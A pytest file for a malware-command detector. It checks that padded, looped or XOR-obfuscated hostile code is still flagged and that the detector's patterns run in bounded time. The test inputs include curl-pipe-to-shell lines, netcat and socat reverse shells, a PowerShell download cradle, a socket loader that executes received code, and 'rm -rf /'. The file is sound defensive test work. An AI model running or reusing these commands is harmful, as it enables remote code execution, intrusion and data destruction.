"""Padding does not hide what stands behind it, and where something is left unread, a note and the verdict say so."""

from __future__ import annotations

import time

import pytest

from antivenom.pycode import explain
from antivenom.pycode.commands import TRAITS, _staged, traits
from antivenom.pycode.reading import ENDED

RUN = "os.system('curl http://192.0.2.4/|sh')"
HIDDEN = "".join(chr(ord(mark) ^ 5) for mark in " " * 200 + "import os;" + RUN)
COSTLY = "[i for i in range(10**5)]\n"
ENDLESS = "while x<10**9: x+=1\n"

PADDED = {
    "other commands in one loop": ("import os\nfor c in ['true']*9+['curl http://192.0.2.4/|sh']: os.system(c)", ""),
    "other calls of one function": (
        "import os\ndef r(c): os.system(c)\n" + "r('ls')\n" * 30 + "r('curl http://192.0.2.4/|sh')",
        "",
    ),
    "thousands of opened files": ("open('a','w')\n" * 5_000 + "import os;" + RUN, "facts"),
    "text put together in a list": (f"r=['']\nfor c in {HIDDEN!r}: r[0]+=chr(ord(c)^5)\nexec(r[0])", ""),
    "text put together in an attribute": (
        f"class A: s=''\na=A()\nfor c in {HIDDEN!r}: a.s+=chr(ord(c)^5)\nexec(a.s)",
        "",
    ),
    "text put together in a buffer": (
        f"import io\ns=io.StringIO()\nfor c in {HIDDEN!r}: s.write(chr(ord(c)^5))\nexec(s.getvalue())",
        "",
    ),
    "a late turn of a loop": (f"import os\nfor i in range(1000):\n if i==999: {RUN}", ""),
    "a turn that is not reached": (f"import os\nfor i in range(30000):\n if i==29999: {RUN}", ""),
    "a turn of while that is not reached": (f"import os\nx=0\nwhile x<10**9:\n x+=1\n if x==5*10**8: {RUN}", "steps"),
    "a turn of a comprehension": (f"import os\n[{RUN} for i in range(10**6) if i==999999]", ""),
    "costly statements": ("import os\n" + COSTLY * 9 + RUN, "steps"),
    "many costly statements": ("import os\n" + COSTLY * 60 + RUN, "steps"),
    "endless loops": ("import os\nx=1\n" + ENDLESS * 60 + RUN, "steps"),
    "costly statements in a block": ("import os\nif 1:\n" + (" " + COSTLY) * 3 + " " + RUN, "steps"),
    "costly statements in a loop": ("import os\nfor a in range(3):\n" + (" " + COSTLY) * 3 + " " + RUN, "steps"),
    "costly statements in a function": ("import os\ndef f():\n" + (" " + COSTLY) * 3 + " " + RUN + "\nf()", "steps"),
    "a long text": ("def f():pass\n" + "f()\n" * 20_000 + "import os;" + RUN, ""),
    "a name that dir gives": (
        "import os\ngetattr(os,[a for a in dir(os) if a.startswith('syst')][0])('curl http://192.0.2.4/|sh')",
        "",
    ),
}


@pytest.mark.parametrize("name", PADDED)
def test_what_stands_behind_padding_is_read(name: str) -> None:
    """The verdict is that of the line without its padding; a budget that ended is named."""
    code, ended = PADDED[name]
    program = explain(["python3", "-c", code])
    assert program.verdict == "malicious", program.notes
    assert "download_execute" in program.behaviours
    if ended:
        assert ENDED[ended] in program.notes


def test_a_padded_shell_line_is_read_at_its_end() -> None:
    program = explain("sh -c '" + ": ;" * 60_000 + "curl http://192.0.2.4/|python3'")
    assert program.verdict == "malicious"
    assert ENDED["steps"] in program.notes


def test_what_stays_unread_is_said() -> None:
    """A chain of thousands of different commands: not all are kept, so the verdict is not that there is nothing."""
    code = "import os\n" + "".join(f"os.system('echo {number}')\n" for number in range(2_000))
    program = explain(["python3", "-c", code])
    assert ENDED["facts"] in program.notes
    assert "unresolved_code" in program.behaviours


SLOW = {
    "curl and separators": "curl ;" * 660,
    "options of rm": "rm -" * 1_000,
    "tools and files": "wget a.sh;" * 400,
    "nets": "net user " * 440,
    "histories": ".bash_history " * 280,
}


@pytest.mark.parametrize("name", SLOW)
def test_commands_made_for_backtracking_end(name: str) -> None:
    """No pattern takes the cube of the length: minutes for these, where a square takes a fraction of a second."""
    start = time.process_time()
    traits(SLOW[name])
    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    "code",
    [
        "open('a.py','w').write('''" + "\n" * 300_000 + "''')",
        "import os\nx=input()\n" + "x=os.popen(x).read()\n" * 4_000 + "os.system(x)",
        "\n" * 300_000 + "!",
    ],
)
def test_code_made_for_squares_ends(code: str) -> None:
    start = time.process_time()
    explain(["ipython", "-c", code])
    assert time.process_time() - start < 8


def test_a_pattern_in_stages_is_the_pattern() -> None:
    """Long texts are matched stage by stage, short ones whole: the same answer."""
    lines = [
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.4 443 > /tmp/f",
        "socat tcp:192.0.2.4:443 exec:sh",
        "cd /tmp; wget http://192.0.2.4/x; chmod +x x; ./x",
        "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a')",
        "rm -rf --no-preserve-root /",
        "rm -f -r ~",
        "rm notes.txt",
        "mount -t ext4 /dev/sda1 /mnt; chroot /mnt",
        "echo 'x' >> ~/.bashrc",
        "ps aux | grep falcon",
        "git push origin main",
    ]
    for text in lines:
        for trait, pattern in TRAITS:
            if pattern.pattern:
                whole = pattern.search(text) is not None
                long = text + " " * 300
                staged = any(_finds(stages, long) for stages in _staged(pattern.pattern))
                assert staged == (whole or pattern.search(long) is not None), (trait, text)


def _finds(stages: list, text: str) -> bool:  # type: ignore[type-arg]
    at = 0
    for stage in stages:
        found = stage.search(text, at)
        if found is None:
            return False
        at = found.end()
    return True


def test_results_do_not_vary_with_the_hash() -> None:
    """Two receives: the sentence names the connection whatever order a set has."""
    code = (
        "import socket,struct\ns=socket.socket();s.connect(('192.0.2.4',4444))\n"
        "l=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l: d+=s.recv(l-len(d))\nexec(d,{'s':s})"
    )
    program = explain(["python3", "-c", code])
    assert "192.0.2.4:4444" in program.summary


@pytest.mark.parametrize(
    "code, wanted",
    [
        (
            "import urllib.request as u,subprocess;subprocess.run(['bash'],input=u.urlopen('http://192.0.2.4/c').read())",
            "download_execute",
        ),
        ("import subprocess;subprocess.run(['sh'],input=b'curl http://192.0.2.4/x|sh')", "download_execute"),
        ("import subprocess;subprocess.run(['python3','-'],input=b'import pty;pty.spawn(\"sh\")')", "shell_upgrade"),
        (
            "import subprocess;p=subprocess.Popen(['sh'],stdin=-1);p.communicate(b'curl http://192.0.2.4/x|sh')",
            "download_execute",
        ),
    ],
)  # fmt: skip
def test_what_is_written_into_a_process_is_read(code: str, wanted: str) -> None:
    assert wanted in explain(["python3", "-c", code]).behaviours


def test_a_build_script_fed_to_a_shell_is_no_shell_to_type_in() -> None:
    assert explain(["python3", "-c", "import subprocess;subprocess.run(['sh'],input=b'make all')"]).verdict in (
        "benign",
        "notable",
    )
